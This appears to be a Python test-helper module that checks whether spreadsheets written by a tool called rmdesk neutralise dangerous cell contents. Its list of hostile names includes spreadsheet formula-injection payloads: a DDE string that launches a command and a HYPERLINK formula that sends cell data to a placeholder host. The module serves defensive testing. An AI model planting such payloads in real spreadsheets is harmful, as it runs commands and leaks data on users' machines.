"""Names and texts that must never break or arm a spreadsheet rmdesk writes, and a look at every cell."""

from __future__ import annotations

from pathlib import Path

import openpyxl

HOSTILE_NAMES = [
    "Ravi a/l Muthu",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid/?leak="&A1,"Open")',
    "+62 812 3456 7890",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tTabbed Name",
    "\rCarriage Return",
    "Nul\x00byte Budi",
    "x" * 10_000,
    "王小明",
    "محمد علي",
    "Zoë 🚀 Hartono",
    "[Boss]: What? *Star*",
    "'Quoted'",
    "History",
    "#N/A",
]
ARMING = ("=", "+", "-", "@", "\t", "\r")


def cells(path: Path):
    """Every cell of every sheet (hidden ones too) as openpyxl reads it back: (sheet, cell)."""
    book = openpyxl.load_workbook(path)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value is not None:
                    yield sheet.title, cell


def armed_cells(path: Path) -> list[str]:
    """Cells a spreadsheet program would not show as plain text: formulas and error values."""
    return [
        f"{title}!{cell.coordinate}: {cell.value!r} ({cell.data_type})"
        for title, cell in cells(path)
        if cell.data_type in ("f", "e")
    ]


def arming_texts(path: Path) -> list[str]:
    """The texts that start the way a formula does, to show the test saw some."""
    return [
        cell.value for _, cell in cells(path) if isinstance(cell.value, str) and cell.value.startswith(ARMING)
    ]
